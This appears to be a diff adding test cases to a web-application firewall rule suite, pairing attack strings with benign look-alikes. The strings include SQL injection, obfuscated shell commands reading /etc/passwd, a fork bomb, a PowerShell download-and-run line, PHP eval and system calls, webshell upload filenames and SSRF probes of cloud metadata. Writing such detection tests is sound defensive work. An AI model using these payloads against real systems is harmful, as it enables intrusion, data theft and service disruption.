@@ -6,6 +6,9 @@ def ua(s): return {"method": "GET", "uri": "/", "headers": [["User-Agent", s]]}
 def uri(u, method="GET"): return {"method": method, "uri": u}
 def hdr(name, val): return {"method": "GET", "uri": "/", "headers": [[name, val]]}
 def body(ct, b, method="POST"): return {"method": method, "uri": "/api", "headers": [["Content-Type", ct]], "body": b}
+def upload(name):
+    b = "--XyZ\r\nContent-Disposition: form-data; name=\"file\"; filename=\"%s\"\r\nContent-Type: application/octet-stream\r\n\r\ndata\r\n--XyZ--\r\n" % name
+    return {"method": "POST", "uri": "/upload", "headers": [["Content-Type", "multipart/form-data; boundary=XyZ"]], "body": b}
 V = {
  "rp-sqli-001": (["x' or 'a'='a", "1' and 1=1 -- ", "abc\" or \"1\"=\"1", "admin' || 1=1#"], ["O'Brien and friends", "Rock 'n' roll or jazz", "size 16\" or 18\""]),
  "rp-sqli-002": (["admin'--", "1') #", "name\"/*"], ["O'Brien", "tag '#2' today", "it's -- well"]),
@@ -51,6 +54,16 @@ V = {
  "rp-rce-032": (["system('id')", "shell_exec($_GET['c'])", "file_get_contents('/etc/passwd')"], ["the system (2024)", "include a note"]),
  "rp-rce-033": (["$f('id');", "(system)('id')", "eval($_POST['x'])"], ["my document (2).pdf", "ceiling height(9ft)"]),
  "rp-rce-031": (["require('child_process').exec('id')", "this.constructor.constructor('return process')()", "{\"__proto__\":{\"x\":1}}"], ["constructors build things", "require a login"]),
+ "rp-rce-040": (["ifconfig", "time ifconfig", "ansible all -m ping", "nohup sh -c whoami", "uname -a"], ["ping me when you're free", "curl bar for shower", "bash the trash podcast", "`python -m venv .venv` creates it"]),
+ "rp-rce-041": ([ua("ansible all -m ping"), ua("nohup ifconfig"), ua(";whoami")], [ua("Ruby"), ua("curl/8.10.1"), ua("python-requests/2.32.3")]),
+ "rp-rce-042": (["c$@at /et$@c/pas$@swd", "uname$u -a", "ping`` 127.0.0.1", "x;cat<<<ifconfig", "{,ifconfig}", "cat /etc/pa[s]swd", ":(){ :|:& };:"], ["He-B[kpueYH6v&X$Rk", "price: US$5 each", "{a, b}", "/users/[id]/edit"]),
+ "rp-rce-043": (["a=/etc&&b=/passwd&&c=cat&&$c $a$b", "CMD=$'sleep 5';$CMD", "alias a=b", ";iwr http://x/a.ps1", "bash -c 'id'"], ["a=1&b=2", "alias names are fine", "the bash party"]),
+ "rp-rce-044": (["IF \"%1\"==\"\" goto ERROR", "if not (2 equ 2) echo hey", "if [AA] == [AA] echo same"], ["if a == b: return", "if (x == 1) { y() }", "if it rains"]),
+ "rp-rce-045": (["base64_decode()", "file_ExistS (\n)", "system(whoami)", "exec/*c*/()"], ["the system (2024)", "str.replace(a, b)", "my_func(x)"]),
+ "rp-rce-046": (["$__[o](4)", "(string)\"system\"('uname');", "<? echo 1", "'sys'.'tem'", "[php]echo 1"], ["this is a \"dog\" (not a cat)", "$(document).ready(f)", "costs $5 (approx)"]),
+ "rp-rce-047": ([upload("shell.php"), upload("photo. php"), hdr("X-Filename", "a.jsp.."), hdr("X-File-Name", "/tmp/sess_d8ew88tqmabdcokhumchy8htqm")], [upload("report.pdf"), hdr("X-Filename", "photo.jpg")]),
+ "rp-rce-048": (["while(!false)", "while(-Infinity);", "module.exports=x", "a[constructor][prototype]=1", "c\\u006fnsole; process[mainModule"], ["while (running) { step() }", "module exports", "the constructor prototype"]),
+ "rp-rce-049": (["java.evil.runtime", "java.lang.ProcessBuilder"], ["java.util.List", "java runtime environment"]),
  "rp-ssrf-001": (["http://169.254.169.254/latest/meta-data/", "http://metadata.google.internal/computeMetadata/v1/", "http://[::ffff:a9fe:a9fe]/"], ["https://example.com/169", "http://api.example.com/metadata-service"]),
  "rp-ssrf-002": (["http://127.0.0.1:8080/admin", "http://0x7f000001/", "http://10.0.0.5/internal", "http://2130706433/"], ["https://example.com/", "http://203.0.113.5/"]),
  "rp-ssrf-003": (["gopher://127.0.0.1:6379/_x", "file:///etc/passwd", "dict://localhost:11211/stat"], ["https://example.com/file", "ftp is old"]),
